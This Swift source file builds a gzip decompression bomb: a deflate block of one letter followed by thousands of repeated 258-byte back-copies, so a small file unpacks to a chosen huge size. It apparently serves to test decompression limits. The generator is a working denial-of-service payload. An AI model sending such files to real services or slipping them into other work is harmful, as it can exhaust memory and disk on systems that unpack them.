/// A gzip file that unpacks to a thousand times its patience: one letter, repeated.
///
/// One block with the fixed codes of deflate: the letter `x`, then copies of 258 bytes from one byte
/// back. Eight copies are 104 bits, so that after the opening the same 13 bytes repeat.
struct GzipBomb {
  /// The gzip header, the block's header, the letter and the copies up to a border of a byte.
  let opening: [UInt8]
  /// Some thousand copies.
  let slice: [UInt8]
  let slices: Int
  /// The end of the block; the checksum is wrong, but nobody should come as far.
  let closing: [UInt8]

  var size: Int { opening.count + slice.count * slices + closing.count }

  /// `unpacked` is about how many bytes it has when it is unpacked.
  init(unpacked: Int) {
    let header: [UInt8] = [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 0xFF]
    var start = Bits()
    // The last block, with fixed codes; `x` is 10101000.
    start.append(0b1_10, count: 3)
    start.append(0b1010_1000, count: 8)
    while start.count % 8 != 0 { Self.copy(&start) }
    opening = header + start.bytes
    var copies = Bits()
    for _ in 0..<8 { Self.copy(&copies) }
    slice = Array(repeatElement(copies.bytes, count: Self.turns).joined())
    slices = unpacked / (258 * 8 * Self.turns)
    // Seven zeros end a block.
    closing = [0] + [0, 0, 0, 0] + [0, 0, 0, 0]
  }

  /// Repetitions of the 13 bytes in a slice.
  private static let turns = 4096

  /// Length 258 is 11000101, distance 1 is 00000.
  private static func copy(_ bits: inout Bits) {
    bits.append(0b1100_0101, count: 8)
    bits.append(0, count: 5)
  }
}

/// Bits in the order of deflate: codes from their high end on, bytes from their low end on.
private struct Bits {
  private(set) var bytes: [UInt8] = []
  private(set) var count = 0

  mutating func append(_ code: UInt16, count width: Int) {
    for place in (0..<width).reversed() {
      if count % 8 == 0 { bytes.append(0) }
      if code >> UInt16(place) & 1 == 1 { bytes[bytes.count - 1] |= 1 << UInt8(count % 8) }
      count += 1
    }
  }
}
